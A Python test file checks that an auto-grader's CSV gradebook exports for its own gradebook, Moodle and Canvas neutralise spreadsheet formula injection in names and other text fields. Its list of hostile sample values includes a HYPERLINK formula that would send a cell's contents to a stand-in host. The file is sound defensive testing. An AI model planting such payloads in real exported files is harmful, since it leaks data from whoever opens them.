"""Every cell of every CSV the grader writes: no formula start reaches a spreadsheet, and the gradebook reads back
exactly what was written (round 4: Moodle names ``=alice``, ``+SUM(1;2)``, ``-2+3``, ``@SUM(A1)``, full-width
``＝``)."""

import csv
import io
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from grader.batch import COLUMNS, Row, gradebook_text
from grader.classpage import gradebook
from grader.intake.finding import Entry
from grader.lms.canvas import Gradebook as CanvasGradebook
from grader.lms.exports import Graded
from grader.lms.moodle import COLUMNS as MOODLE_COLUMNS
from grader.lms.moodle import Worksheet as MoodleWorksheet
from grader.results import GradeResult
from grader.results import TestResult as Check  # a name pytest does not collect
from grader.sandbox.printable import printable
from grader.spreadsheet import FORMULA_START, cell, csv_text, uncell

# What a spreadsheet runs (or reads as a formula's start) at the head of a cell; "'" is safe: it makes text.
RUNS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
HOSTILE = ["=alice", "+SUM(1;2)", "-2+3", "@SUM(A1)", '=HYPERLINK("http://x.test/?"&A1;"nota")', "\uff1d1+1",
           "\uff0bSUM(1)", "\uff0d2", "\uff20SUM(A1)", "\t=1", "\n=1", "'=1", "''", "plain"]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _unsafe(rows: list[list[str]]) -> list[str]:
    return [c for row in rows for c in row if c.startswith(RUNS)]


def test_the_writer_quotes_every_start_a_spreadsheet_runs():
    assert set(RUNS) < set(FORMULA_START)
    for start in RUNS:
        written = cell(start + "1")
        assert not written.startswith(RUNS) and uncell(written) == printable(start + "1")
        assert written == "'" + start + "1" or start == "\r"  # a CR is no character to show: replaced, as controls are
    assert (cell("plain"), cell(3.5), cell(True), cell(None)) == ("plain", "3.5", "True", "")


@given(st.lists(st.lists(st.text(max_size=12), min_size=1, max_size=4), min_size=1, max_size=4))
def test_any_cell_reaches_the_file_safe_and_is_read_back_as_it_was_written(rows):
    for line in ("\n", "\r\n"):
        back = _cells(csv_text(rows, line))
        assert not _unsafe(back)
        assert [[uncell(c) for c in row] for row in back] == [[printable(v) for v in row] for row in rows]


def _result(name: str, score: float) -> GradeResult:
    test = Check(name="softmax: hidden cases", function="softmax", group="hidden", max_score=score, passed=True,
                 feedback="")
    return GradeResult(student=name, tests=[test], lang="en", seed=1, status="graded", reason="")


def _rows() -> list[Row]:
    """A row per hostile text, in every text column the gradebook has: the student's name, the reason, the
    grader's error, the LMS's spelling of the name and the look-alike list."""
    rows = []
    for i, text in enumerate(HOSTILE):
        entry = Entry(student=f"{text} #{i}", label=text, paths=(Path(text),), layout="moodle", lms_id=f"18745{i:02d}",
                      display=text, identity=f"moodle:18745{i:02d}", lookalike=text)
        result = GradeResult(student=text, tests=[], lang="en", seed=1, status="refused", reason=text)
        rows.append(Row(f"{text} #{i}", result, error=text, entry=entry, stem=f"s{i}"))
    return rows


def test_every_column_of_the_gradebook_is_safe_and_read_back_by_the_class_page(tmp_path):
    rows = _rows()
    path = tmp_path / "grades.csv"
    path.write_text(gradebook_text(rows, 30.0), encoding="utf-8")
    written = _cells(path.read_text(encoding="utf-8"))
    assert written[0] == COLUMNS and not _unsafe(written)
    assert {c for row in written[1:] for c in row} >= {"'=alice", "'+SUM(1;2)", "'\uff1d1+1", "''=1"}
    students = gradebook.read(path, None)
    assert [s.name for s in students] == [r.student for r in rows]
    assert [(s.reason, s.lookalike) for s in students] == [(printable(t), printable(t)) for t in HOSTILE]


def test_the_moodle_worksheet_and_the_canvas_file_are_safe_in_every_column(tmp_path):
    graded = [Graded(text, lms, f"9{i:06d}", text, f"s{i}", _result(text, 3.0))
              for i, text in enumerate(HOSTILE) for lms in ("moodle", "canvas")]
    assert MoodleWorksheet(tmp_path / "worksheet.csv", "en").write(graded, 10) == len(HOSTILE)
    assert CanvasGradebook(tmp_path / "canvas.csv", "Atenção (1)").write(graded, 10) == len(HOSTILE)
    for name in ("worksheet.csv", "canvas.csv"):
        written = _cells((tmp_path / name).read_text(encoding="utf-8-sig"))
        assert not _unsafe(written), name
        names = [row[1 if name == "worksheet.csv" else 0] for row in written[1:]]
        assert [uncell(n) for n in names] == [printable(t) for t in HOSTILE], name
    assert _cells((tmp_path / "worksheet.csv").read_text(encoding="utf-8-sig"))[0] == list(MOODLE_COLUMNS["en"])
